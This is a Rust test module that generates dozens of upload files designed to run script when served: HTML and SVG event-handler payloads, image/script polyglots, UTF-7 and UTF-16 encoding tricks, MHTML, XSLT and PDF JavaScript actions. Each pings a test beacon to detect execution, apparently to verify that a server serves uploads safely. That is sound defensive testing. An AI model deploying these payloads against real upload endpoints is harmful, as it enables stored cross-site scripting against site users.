//! Files that run something where they can: each tells the beacon of the test, by its own name.

/// A file, as it is uploaded and as an ordinary server would serve it.
pub(crate) struct Hostile {
    /// Its name, which the beacon hears.
    pub(crate) name: String,
    /// The type that it claims.
    pub(crate) kind: &'static str,
    /// Its bytes.
    pub(crate) bytes: Vec<u8>,
}

/// Types under which a page is uploaded.
const AS_A_PAGE: [&str; 14] = [
    "text/html",
    "TEXT/HTML",
    "text/html; charset=utf-8",
    "text/html;charset=utf-7",
    "text/plain;a=b, text/html",
    "text/html;x=\"image/png\"",
    "application/xhtml",
    "application/hta",
    "multipart/related",
    "message/rfc822",
    "text/plain",
    "image/png",
    "application/octet-stream",
    "*/*",
];

/// Types under which a document of XML is uploaded.
const AS_XML: [&str; 8] = [
    "image/svg+xml",
    "image/svg+xml; charset=utf-8",
    "IMAGE/SVG+XML",
    "application/xhtml+xml",
    "application/xml",
    "text/xml",
    "application/rss+xml",
    "text/plain; charset=utf-8",
];

/// Types under which a script is uploaded.
const AS_A_SCRIPT: [&str; 16] = [
    "text/javascript",
    "application/javascript",
    "application/x-javascript",
    "application/ecmascript",
    "text/x-component",
    "text/ecmascript",
    "text/javascript; charset=utf-8",
    "TEXT/JAVASCRIPT",
    "text/jscript",
    "application/json",
    "text/css",
    "application/wasm",
    "application/manifest+json",
    "text/plain",
    "image/gif",
    "audio/mpeg",
];

/// Every file; `beacon` is the address that a script calls.
pub(crate) fn all(beacon: &str) -> Vec<Hostile> {
    let mut files = Vec::new();
    let mut add = |kind: &'static str, ending: &str, bytes: &dyn Fn(&str) -> Vec<u8>| {
        let name = format!("{:02}.{ending}", files.len());
        let script = format!("fetch('{beacon}/{name}',{{mode:'no-cors'}})");
        let bytes = bytes(&script);
        files.push(Hostile { name, kind, bytes });
    };
    for kind in AS_A_PAGE {
        add(kind, "html", &|script| page(script).into_bytes());
    }
    for kind in AS_XML {
        add(kind, "svg", &|script| svg(script).into_bytes());
    }
    for kind in AS_A_SCRIPT {
        add(kind, "js", &|script| format!("{script};").into_bytes());
    }
    // What is a picture to one and a script to the other.
    add("image/gif", "gif", &|script| format!("GIF89a=1;{script};").into_bytes());
    add("text/javascript", "gif", &|script| format!("GIF89a=1;{script};").into_bytes());
    add("image/png", "png", &|script| [b"\x89PNG\r\n\x1a\n", page(script).as_bytes()].concat());
    add("image/jpeg", "jpg", &|script| [b"\xff\xd8\xff\xe0", page(script).as_bytes()].concat());
    // Marks of other encodings, before and instead of the declared one.
    add("text/html", "html", &|script| [b"\xef\xbb\xbf", page(script).as_bytes()].concat());
    add("text/plain", "txt", &|script| utf16(&page(script)));
    add("text/html", "html", &|script| utf16(&page(script)));
    // What is taken for text, for a player's list, for a stream of documents.
    add("text/plain; charset=utf-7", "txt", &|script| {
        format!("+ADw-script+AD4-{script}+ADw-/script+AD4-").into_bytes()
    });
    add("multipart/x-mixed-replace; boundary=x", "html", &|script| {
        format!("--x\r\nContent-Type: text/html\r\n\r\n{}\r\n--x--\r\n", page(script)).into_bytes()
    });
    add("multipart/related; boundary=x", "mhtml", &|script| {
        format!("MIME-Version: 1.0\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n{}\r\n--x--", page(script))
            .into_bytes()
    });
    add("text/xml", "xml", &|script| xslt(script).into_bytes());
    add("application/xml", "xml", &|script| xslt(script).into_bytes());
    add("application/pdf", "pdf", &|script| pdf(script).into_bytes());
    add("text/vtt", "vtt", &|script| format!("WEBVTT\n\n{}", page(script)).into_bytes());
    files
}

fn page(script: &str) -> String {
    format!(
        "<!doctype html><meta charset=utf-8><body onload=\"{script}\"><script>{script}</script><img src=x onerror=\"{script}\">"
    )
}

fn svg(script: &str) -> String {
    format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{script}\"><script>{script}</script></svg>")
}

fn xslt(script: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><x><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>{script}</script></html></x>"
    )
}

fn pdf(script: &str) -> String {
    format!(
        "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\({script}\\))>>>>endobj\n{}",
        page(script)
    )
}

fn utf16(text: &str) -> Vec<u8> {
    std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
}
